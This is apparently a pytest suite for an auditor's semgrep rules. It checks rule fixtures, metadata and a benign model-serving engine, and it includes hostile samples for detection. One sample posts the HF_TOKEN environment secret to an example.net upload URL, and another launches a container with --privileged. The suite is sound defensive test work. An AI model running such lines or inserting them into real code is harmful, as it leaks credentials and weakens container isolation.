"""The semgrep rules of policies/semgrep: their fixtures pass under `semgrep --test` (offline), every rule
has valid metadata and both a hostile and a benign sample, every category is covered, and a benign
engine produces no finding at all."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from auditor import gitio
from auditor.errors import SpecError
from auditor.model import Category, Severity
from auditor.scan import rules as rules_mod
from auditor.scan.cuda import cuda_to_cpp

SEMGREP = shutil.which("semgrep", path=str(Path(sys.executable).parent)) or shutil.which("semgrep")
needs_semgrep = pytest.mark.skipif(SEMGREP is None, reason="semgrep is not installed")

# Categories no semgrep rule covers: other scanners or stages produce them. (Dependency findings
# come from the deps stage and, for package sources and substitution in scripts, from semgrep.)
NOT_SEMGREP = {Category.BINARY_ARTIFACT, Category.POLICY, Category.SERVICE, Category.PROVENANCE}
LANGUAGE_TAGS = {"python", "c", "shell", "compose", "script"}
ANNOTATION_RE = re.compile(r"(?:#|//)\s*(ruleid|ok|todoruleid|todook):\s*([\w.,\s-]+?)\s*$")


def semgrep(args: list[str], home: Path, cwd: Path | None = None) -> gitio.Completed:
    """Semgrep offline: no metrics, no version check, settings kept out of the real home."""
    home.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SEMGREP_")}
    env.update({"HOME": str(home), "SEMGREP_SETTINGS_FILE": str(home / "settings.yml"),
                "SEMGREP_ENABLE_VERSION_CHECK": "0", "SEMGREP_SEND_METRICS": "off"})
    assert SEMGREP is not None
    return gitio.run([SEMGREP, *args], env=env, cwd=cwd, check=False, timeout=300)


def test_command(rules_dir: Path, fixtures_dir: Path) -> list[str]:
    return ["--metrics=off", "--test", "--json", "--config", str(rules_dir), str(fixtures_dir)]


test_command.__test__ = False  # type: ignore[attr-defined]  # a helper, not a test


def annotations() -> dict[str, dict[str, set[str]]]:
    """rule id -> {"ruleid": {fixture files}, "ok": {fixture files}} from the fixture comments."""
    out: dict[str, dict[str, set[str]]] = {}
    for path in sorted(rules_mod.FIXTURES_DIR.rglob("*")):
        if not path.is_file():
            continue
        rel = path.relative_to(rules_mod.FIXTURES_DIR).as_posix()
        for line in path.read_text(encoding="utf-8").splitlines():
            m = ANNOTATION_RE.search(line)
            if not m:
                continue
            for rule_id in (r.strip() for r in m.group(2).split(",")):
                kind = "ruleid" if m.group(1).endswith("ruleid") else "ok"
                out.setdefault(rule_id, {"ruleid": set(), "ok": set()})[kind].add(rel)
    return out


# ------------------------------------------------------------------ semgrep --test over the fixtures


@pytest.fixture(scope="module")
def test_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, Any]]:
    home = tmp_path_factory.mktemp("semgrep-home")
    res = semgrep(test_command(rules_mod.RULES_DIR, rules_mod.FIXTURES_DIR), home)
    try:
        doc = json.loads(res.stdout)
    except ValueError:
        pytest.fail(f"semgrep --test printed no JSON (exit {res.returncode}): {res.stderr[-800:]}")
    return res.returncode, doc


def checks_of(doc: Mapping[str, Any]) -> dict[str, Mapping[str, Any]]:
    return {check_id: check for per_file in doc.get("results", {}).values()
            for check_id, check in per_file.get("checks", {}).items()}


@needs_semgrep
def test_fixtures_pass_semgrep_test(test_report: tuple[int, dict[str, Any]]) -> None:
    code, doc = test_report
    checks = checks_of(doc)
    failed = {cid: c.get("matches") for cid, c in checks.items() if not c.get("passed")}
    assert failed == {}
    assert doc.get("config_with_errors") == []
    assert doc.get("config_missing_tests") == []
    assert code == 0
    assert len(checks) > 0


@needs_semgrep
def test_every_rule_is_exercised_by_semgrep_test(test_report: tuple[int, dict[str, Any]]) -> None:
    meta = rules_mod.load_rule_meta()
    checked = {rules_mod.canonical_rule_id(cid, meta) for cid in checks_of(test_report[1])}
    assert checked == set(meta)
    # every fixture file was paired with its rule file (an unpaired one is silently not tested)
    used = {Path(p).resolve() for c in checks_of(test_report[1]).values() for p in c["matches"]}
    fixtures = {p.resolve() for p in rules_mod.FIXTURES_DIR.rglob("*") if p.is_file()}
    assert fixtures - used == set()


@needs_semgrep
def test_semgrep_test_fails_on_a_wrong_fixture(tmp_path: Path) -> None:
    rules_dir, fixtures_dir = tmp_path / "rules" / "network", tmp_path / "fixtures" / "network"
    rules_dir.mkdir(parents=True)
    fixtures_dir.mkdir(parents=True)
    shutil.copy(rules_mod.RULES_DIR / "network" / "python.yaml", rules_dir / "python.yaml")
    (fixtures_dir / "python.py").write_text(
        "import requests\n\n"
        "# ok: network.python.http-client\n"  # wrong: this line is hostile
        "requests.post('https://collector.example.net/v1', json={})\n")
    res = semgrep(test_command(tmp_path / "rules", tmp_path / "fixtures"), tmp_path / "home")
    assert res.returncode != 0
    check = checks_of(json.loads(res.stdout))["network.python.http-client"]
    assert check["passed"] is False


def test_every_rule_has_a_hostile_and_a_benign_sample() -> None:
    meta = rules_mod.load_rule_meta()
    notes = annotations()
    assert set(notes) - set(meta) == set(), "annotations naming rules that do not exist"
    missing_hostile = sorted(r for r in meta if not notes.get(r, {}).get("ruleid"))
    missing_benign = sorted(r for r in meta if not notes.get(r, {}).get("ok"))
    assert missing_hostile == []
    assert missing_benign == []


def test_rules_folder_holds_only_rules_and_fixtures_mirror_it() -> None:
    rule_files = rules_mod.rule_files()
    everything = [p for p in rules_mod.RULES_DIR.rglob("*") if p.is_file()]
    assert sorted(everything) == sorted(rule_files)
    rule_stems = {p.relative_to(rules_mod.RULES_DIR).with_suffix("").as_posix() for p in rule_files}
    for fixture in rules_mod.FIXTURES_DIR.rglob("*"):
        if fixture.is_file():
            rel = fixture.relative_to(rules_mod.FIXTURES_DIR)
            stem = (rel.parent / rel.name.split(".", 1)[0]).as_posix()
            assert stem in rule_stems, f"{rel} pairs with no rule file"
            if fixture.suffix in (".yaml", ".yml"):
                # semgrep --test only reads YAML fixtures named NAME.test.yaml
                assert fixture.name.endswith(".test.yaml"), rel


# ------------------------------------------------------------------ metadata


def test_rule_metadata_is_complete_and_namespaced() -> None:
    meta = rules_mod.load_rule_meta()
    assert len(meta) >= 40
    for rule_id, m in meta.items():
        category, language, name = rule_id.split(".", 2)
        assert m.id == rule_id
        assert category == m.category.value
        assert m.file.split("/")[0] == category, f"{rule_id} lives in {m.file}"
        assert language in LANGUAGE_TAGS, rule_id
        assert name and m.message and len(m.help) >= 20
        assert isinstance(m.severity, Severity)
        assert m.languages


def test_every_category_has_rules() -> None:
    covered = {m.category for m in rules_mod.load_rule_meta().values()}
    assert set(Category) - NOT_SEMGREP - covered == set()
    assert covered & NOT_SEMGREP == set()  # binary artifacts etc. are found by other stages


def test_ruleset_hash_is_stable_and_changes_with_any_rule(tmp_path: Path) -> None:
    first = rules_mod.ruleset_hash()
    assert re.fullmatch(r"[0-9a-f]{64}", first)
    copy = tmp_path / "rules"
    shutil.copytree(rules_mod.RULES_DIR, copy)
    assert rules_mod.ruleset_hash(copy) == first == rules_mod.ruleset_hash()
    target = copy / "network" / "python.yaml"
    target.write_bytes(target.read_bytes() + b"\n")
    assert rules_mod.ruleset_hash(copy) != first


def test_canonical_rule_id_undoes_semgreps_prefix() -> None:
    meta = rules_mod.load_rule_meta()
    assert rules_mod.canonical_rule_id("network.python.http-client", meta) == \
        "network.python.http-client"
    assert rules_mod.canonical_rule_id(
        "policies.semgrep.rules.network.network.python.http-client", meta) == \
        "network.python.http-client"
    assert rules_mod.canonical_rule_id("someone.elses.rule", meta) is None


GOOD_RULE = """\
rules:
  - id: network.python.sample
    languages: [python]
    severity: ERROR
    message: a sample
    metadata:
      category: network
      severity: high
      help: Check where the request goes and what it sends.
    pattern: requests.get(...)
"""


@pytest.mark.parametrize("edit, complaint", [
    (("category: network", "category: networking"), "metadata.category"),
    (("severity: high", "severity: severe"), "metadata.severity"),
    (("      help: Check where the request goes and what it sends.\n", ""), "metadata.help"),
    (("id: network.python.sample", "id: sample"), "namespaced"),
    (("id: network.python.sample", "id: telemetry.python.sample"), "start with its category"),
    (("    message: a sample\n", ""), "no message"),
    (("rules:", "rulez:"), "'rules' list"),
    (("pattern: requests.get(...)", "pattern: [unclosed"), "cannot read"),
])
def test_bad_rule_file_is_a_spec_error_naming_it(tmp_path: Path, edit: tuple[str, str],
                                                 complaint: str) -> None:
    bad = tmp_path / "network" / "python.yaml"
    bad.parent.mkdir()
    bad.write_text(GOOD_RULE.replace(*edit))
    with pytest.raises(SpecError) as err:
        rules_mod.load_rule_meta(tmp_path)
    assert str(bad) in err.value.message
    assert complaint in err.value.message


TAINT_RULE = GOOD_RULE.replace("    pattern: requests.get(...)\n", """\
      prefilter: [[prompt], [post(]]
      prefilter-sink-group: 2
    mode: taint
    pattern-sources: [{pattern: $X.prompt}]
    pattern-sinks: [{pattern: requests.post(...)}]
""")


def test_a_taint_rule_names_its_sink_group(tmp_path: Path) -> None:
    (tmp_path / "python.yaml").write_text(TAINT_RULE)
    meta = rules_mod.load_rule_meta(tmp_path)["network.python.sample"]
    assert meta.taint and meta.sink_group == 1 and meta.prefilter[1] == ("post(",)


@pytest.mark.parametrize("edit", [
    ("prefilter-sink-group: 2", "prefilter-sink-group: 3"),
    ("prefilter-sink-group: 2", "prefilter-sink-group: 0"),
    ("prefilter-sink-group: 2", "prefilter-sink-group: true"),
    ("prefilter-sink-group: 2", "prefilter-sink-group: second"),
    ("    mode: taint\n", ""),
    ("      prefilter: [[prompt], [post(]]\n", ""),
])
def test_a_bad_sink_group_is_a_spec_error(tmp_path: Path, edit: tuple[str, str]) -> None:
    bad = tmp_path / "python.yaml"
    bad.write_text(TAINT_RULE.replace(*edit))
    with pytest.raises(SpecError, match="prefilter-sink-group") as err:
        rules_mod.load_rule_meta(tmp_path)
    assert str(bad) in err.value.message


def test_duplicate_rule_id_is_a_spec_error(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(GOOD_RULE)
    (tmp_path / "b.yaml").write_text(GOOD_RULE)
    with pytest.raises(SpecError, match="also defined"):
        rules_mod.load_rule_meta(tmp_path)


def test_good_rule_file_loads(tmp_path: Path) -> None:
    (tmp_path / "python.yaml").write_text(GOOD_RULE)
    meta = rules_mod.load_rule_meta(tmp_path)["network.python.sample"]
    assert (meta.category, meta.severity, meta.languages) == (Category.NETWORK, Severity.HIGH,
                                                              ("python",))


# ------------------------------------------------------------------ a benign engine, and a few hostile lines

BENIGN: dict[str, str] = {
    "engine/server.py": '''\
"""A small OpenAI-style server: binds to loopback, logs counts, never content."""
import argparse
import json
import logging
import os

import uvicorn
import yaml
from fastapi import FastAPI, Request

logger = logging.getLogger(__name__)
app = FastAPI()


def load_config(path):
    with open(path) as fh:
        if path.endswith(".json"):
            return json.load(fh)
        return yaml.safe_load(fh)


@app.post("/v1/completions")
async def completions(request: Request):
    body = await request.json()
    prompt = body["prompt"]
    n_tokens = len(prompt.split())
    logger.info("request %s: %d prompt words", body.get("request_id"), n_tokens)
    return {"id": body.get("request_id"), "usage": {"prompt_tokens": n_tokens}}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=int(os.environ.get("ENGINE_PORT", "8000")))
    parser.add_argument("--config", default="engine.yaml")
    args = parser.parse_args()
    cfg = load_config(args.config)
    logger.info("loaded %d config keys; workers=%s", len(cfg), os.cpu_count())
    uvicorn.run(app, host=args.host, port=args.port)
''',
    "engine/worker.py": '''\
"""Loads weights safely and talks to its peers over ipc:// with msgpack."""
import ctypes
import os
import tempfile
from multiprocessing import shared_memory

import msgpack
import numpy as np
import torch
import zmq

from pathlib import Path

_LIB = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "_kernels.so"))
_HERE = Path(__file__).resolve().parent


def load_kernel(name):
    return ctypes.CDLL(str(_HERE / f"{name}.so"))


def load_weights(path):
    if path.endswith(".npy"):
        return np.load(path)
    return torch.load(path, map_location="cpu", weights_only=True)


def channel(ctx, path):
    sock = ctx.socket(zmq.PAIR)
    sock.connect(f"ipc://{path}")
    return sock


def receive(sock):
    frames = sock.recv_multipart()
    return [msgpack.unpackb(f) for f in frames]


def scratch(size):
    shm = shared_memory.SharedMemory(create=True, size=size)
    fd, path = tempfile.mkstemp(prefix="engine-")
    os.close(fd)
    os.makedirs(os.path.join(tempfile.gettempdir(), "engine"), mode=0o700, exist_ok=True)
    return shm, path
''',
    "engine/metrics.py": '''\
import logging
import time

logger = logging.getLogger("engine.metrics")


class Stats:
    def __init__(self):
        self.requests = 0
        self.tokens = 0
        self.started = time.monotonic()

    def record(self, prompt_token_ids, output_token_ids):
        self.requests += 1
        self.tokens += len(prompt_token_ids) + len(output_token_ids)

    def log(self):
        rate = self.tokens / max(time.monotonic() - self.started, 1e-9)
        logger.info("%d requests, %d tokens, %.1f tok/s", self.requests, self.tokens, rate)
''',
    "csrc/ops.cpp": '''\
#include <cstdlib>
#include <dlfcn.h>
#include <sys/stat.h>

int num_threads() {
  const char* n = std::getenv("OMP_NUM_THREADS");
  return n ? std::atoi(n) : 1;
}

void* cuda_driver() { return dlopen("libcuda.so.1", RTLD_LAZY); }

void private_dir(const char* p) { mkdir(p, 0700); chmod(p, 0700); }
''',
    "csrc/kernels.cu": '''\
#include <cuda_runtime.h>

template <typename T, int BLOCK>
__global__ void __launch_bounds__(BLOCK) scale(T* __restrict__ out, const T* __restrict__ in,
                                               float s, int n) {
  __shared__ float tile[BLOCK];
  int i = blockIdx.x * BLOCK + threadIdx.x;
  if (i < n) { tile[threadIdx.x] = in[i]; out[i] = tile[threadIdx.x] * s; }
}

__device__ __forceinline__ float twice(float x) { return 2.0f * x; }

void launch(float* out, const float* in, float s, int n, cudaStream_t stream) {
  scale<float, 256><<<(n + 255) / 256, 256, 0, stream>>>(out, in, s, n);
}
''',
    "scripts/serve.sh": '''\
#!/usr/bin/env bash
set -euo pipefail
export VLLM_NO_USAGE_STATS=1 DO_NOT_TRACK=1
umask 077
workdir="$(mktemp -d)"
chmod 0700 "$workdir"
vllm serve "$MODEL" --host 127.0.0.1 --port 8000 > "$workdir/engine.log" 2>&1 &
until curl -sf http://127.0.0.1:8000/health; do sleep 1; done
[ -n "${VLLM_API_KEY:-}" ] && echo "API key is set"
echo "max tokens: ${MAX_TOKENS:-16}"
''',
    "docker/engine.dockerfile": '''\
FROM python:3.11-slim
ENV VLLM_NO_USAGE_STATS=1 DO_NOT_TRACK=1 HF_HUB_DISABLE_TELEMETRY=1
RUN pip install --no-cache-dir vllm==0.30.0 && useradd -m engine
USER engine
HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1
CMD ["vllm", "serve", "/models/m", "--host", "127.0.0.1", "--port", "8000"]
''',
    "docker/compose.yaml": '''\
services:
  engine:
    image: vllm/vllm-openai:v0.30.0
    command: ["--model", "/models/m", "--host", "127.0.0.1"]
    ports:
      - "127.0.0.1:8000:8000"
    environment:
      VLLM_NO_USAGE_STATS: "1"
      DO_NOT_TRACK: "1"
      VLLM_LOGGING_LEVEL: INFO
    volumes:
      - /srv/models:/models:ro
    privileged: false
    deploy:
      resources:
        reservations:
          devices:
            - driver: nvidia
              count: 1
              capabilities: [gpu]
''',
    "engine/config.yaml": '''\
max_model_len: 4096
tokenizer: /models/m
log_stats: true
''',
}

# Hostile lines whose findings are checked exactly: (file, line, rule).
HOSTILE: dict[str, str] = {
    "hostile/start.sh": '''\
#!/usr/bin/env bash
docker run -d --gpus all \\
  -p 8000:8000 \\
  --privileged \\
  vllm/vllm-openai:v0.30.0
''',
    "hostile/leak.py": '''\
import os
import requests

def beacon():
    requests.post("https://example.net/upload", data=os.environ.get("HF_TOKEN"))
''',
}
HOSTILE_EXPECTED = {
    ("hostile/start.sh", 4, "container-privilege.shell.privileged"),
    ("hostile/leak.py", 5, "network.python.http-client"),
    ("hostile/leak.py", 5, "secret-access.python.env-secret-read"),
    ("hostile/leak.py", 5, "secret-access.python.secret-exfiltration"),
}


@pytest.fixture(scope="module")
def engine_scan(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One semgrep run over the benign engine and the hostile samples (CUDA shimmed to .cpp)."""
    root = tmp_path_factory.mktemp("engine-scan")
    for rel, text in {**BENIGN, **HOSTILE}.items():
        if rel.endswith(".cu"):
            rel, text = rel + ".cpp", cuda_to_cpp(text)
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    res = semgrep(["scan", "--metrics=off", "--json", "--config", str(rules_mod.RULES_DIR),
                   "--no-rewrite-rule-ids", "--x-ignore-semgrepignore-files", "--no-git-ignore",
                   "."], root / ".home", cwd=root)
    try:
        doc: dict[str, Any] = json.loads(res.stdout)
    except ValueError:
        pytest.fail(f"semgrep printed no JSON (exit {res.returncode}): {res.stderr[-800:]}")
    return doc


@needs_semgrep
def test_benign_engine_produces_no_finding(engine_scan: dict[str, Any]) -> None:
    assert engine_scan["errors"] == []
    scanned = set(engine_scan["paths"]["scanned"])
    expected = {rel + ".cpp" if rel.endswith(".cu") else rel for rel in BENIGN}
    assert expected <= scanned
    benign = [(r["path"], r["start"]["line"], r["check_id"]) for r in engine_scan["results"]
              if not r["path"].startswith("hostile/")]
    assert benign == []


@needs_semgrep
def test_hostile_samples_are_found_at_their_lines(engine_scan: dict[str, Any]) -> None:
    meta = rules_mod.load_rule_meta()
    found = {(r["path"], r["start"]["line"], rules_mod.canonical_rule_id(r["check_id"], meta))
             for r in engine_scan["results"] if r["path"].startswith("hostile/")}
    # the flag added on a continuation line is reported on that line, not on `docker run`
    assert found == HOSTILE_EXPECTED
